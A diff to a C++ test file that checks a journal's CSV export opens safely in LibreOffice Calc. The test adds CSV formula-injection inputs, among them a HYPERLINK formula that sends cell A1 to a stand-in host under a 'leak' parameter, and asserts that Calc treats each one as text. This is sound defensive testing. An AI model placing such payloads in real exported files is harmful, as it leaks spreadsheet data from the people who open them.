@@ -489,13 +489,14 @@ TEST(CalcStaleLock, OnlyThisOfficesOwnLockIsDropped) {
 }
 
 // The journal's CSV file opens in Calc with its Japanese and its quoted
-// commas as written. Calc's text import dialog takes UTF-8 from the
-// byte-order mark; headless there is no dialog, so its choice is given.
+// commas as written, and words that look like formulas as text. Calc's
+// text import dialog takes UTF-8 from the byte-order mark; headless there
+// is no dialog, so its choice is given.
 TEST(CalcJournalCsv, TheCsvOpensInCalcWithTheRightCharacters) {
     TestOffice office(pipeFor("csv"));
     TempDir dir;
     const std::string path = dir.path() + "/record.csv";
-    const std::vector<wordpour::journal::Record> records = {
+    std::vector<wordpour::journal::Record> records = {
         {wordpour::journal::Record::Kind::Entry,
          1'796'000'000'000,
          u"/家/在庫 表.xls",
@@ -504,8 +505,26 @@ TEST(CalcJournalCsv, TheCsvOpensInCalcWithTheRightCharacters) {
          u"東京都, \"港区\"",
          {}},
     };
+    const std::u16string formulas[] = {
+        u"=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"click\")",
+        u"+1+2",
+        u"-3+4",
+        u"@SUM(1,2)",
+        u"\t=1+1",
+        u"\r=1+1"};
+    for (const auto& word : formulas) {
+        records.push_back(records[0]);
+        records.back().word = word;
+    }
     std::ofstream(path, std::ios::binary) << wordpour::journal::toCsv(records);
     office.openUtf8Csv(path);
+    for (std::size_t i = 0; i < std::size(formulas); ++i) {
+        const std::string cell = "E" + std::to_string(i + 3);
+        SCOPED_TRACE(cell);
+        const auto read = office.cell(path, u"record", std::u16string(cell.begin(), cell.end()));
+        EXPECT_EQ(read.type, css::table::CellContentType_TEXT);
+        EXPECT_NE(read.text.find(formulas[i].substr(1)), std::u16string::npos);
+    }
     EXPECT_EQ(utf8(office.cell(path, u"record", u"B1").text), "ブック");
     EXPECT_EQ(utf8(office.cell(path, u"record", u"B2").text), "/家/在庫 表.xls");
     EXPECT_EQ(utf8(office.cell(path, u"record", u"E2").text), "東京都, \"港区\"");
